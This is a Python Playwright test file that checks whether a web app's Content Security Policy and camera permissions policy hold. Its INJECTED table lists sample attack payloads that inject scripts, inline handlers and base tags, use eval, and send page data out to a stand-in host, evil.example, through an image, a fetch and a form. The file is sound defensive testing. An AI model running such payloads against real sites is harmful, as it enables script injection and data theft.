"""What a page did not bring along does not run, load or leave; and the other tests here hear of it when it tries."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlsplit

from playwright.sync_api import Request

from tests.browser.phone import Phone

INJECTED = {
    "a script in the page": "const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; "
    "document.body.append(s);",
    "a handler in an attribute": "document.body.insertAdjacentHTML('beforeend', "
    "'<p id=\"x\" onclick=\"window.stolen = 1\">x</p>'); document.getElementById('x').click();",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; "
    "document.body.append(s);",
    "a style": "const s = document.createElement('style'); s.textContent = 'body { color: rgb(1, 2, 3) }'; "
    "document.head.append(s);",
    "a picture that carries something away": "new Image().src = 'https://evil.example/?' + document.title;",
    "a request that carries something away": "fetch('https://evil.example/', { method: 'POST', body: 'x' })"
    ".catch(() => 0);",
    "a form that leads away": "const f = document.createElement('form'); f.method = 'post'; "
    "f.action = 'https://evil.example/'; document.body.append(f); f.submit();",
    "a frame": "const f = document.createElement('iframe'); f.src = '/'; document.body.append(f);",
    "another base": "const b = document.createElement('base'); b.href = 'https://evil.example/'; "
    "document.head.append(b);",
    "text as a program": "try { eval('window.stolen = 1') } catch (refused) { console.error(String(refused)) }",
}


def test_what_is_put_into_a_page_does_nothing(phone: Callable[..., Phone]) -> None:
    one = phone()
    for what, program in INJECTED.items():
        one.open("/sign-in")
        asked: list[Request] = []
        one.page.on("request", lambda request, asked=asked: asked.append(request))
        # As a script of our own that was deceived would do it
        one.page.evaluate(f"() => {{ setTimeout(() => {{ {program} }}, 0) }}")
        one.page.wait_for_timeout(400)
        refused = [fault for fault in one.faults if "Content Security Policy" in fault]
        assert refused, f"{what} was not refused: {one.faults}"
        one.faults.clear()
        assert one.page.evaluate("window.stolen") is None, what
        assert one.page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)", what
        assert one.page.evaluate("document.baseURI").startswith(one.system.url), what
        assert one.page.url.endswith("/sign-in"), what
        left = [request for request in asked if urlsplit(request.url).hostname == "evil.example"]
        assert all(request.failure == "csp" for request in left), what


def test_no_camera_where_nothing_is_scanned(phone: Callable[..., Phone]) -> None:
    """Even where the person once allowed it to this site."""
    one = phone()
    ask = "() => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'seen', refused => refused.name)"
    for path, allowed in (("/", False), ("/sign-in", False), ("/scan", True)):
        one.open(path)
        answer = one.page.evaluate(ask)
        violations = [fault for fault in one.faults if "Permissions policy violation: camera" in fault]
        assert bool(violations) != allowed, (path, answer, one.faults)
        assert allowed or answer != "seen", path
        one.faults.clear()
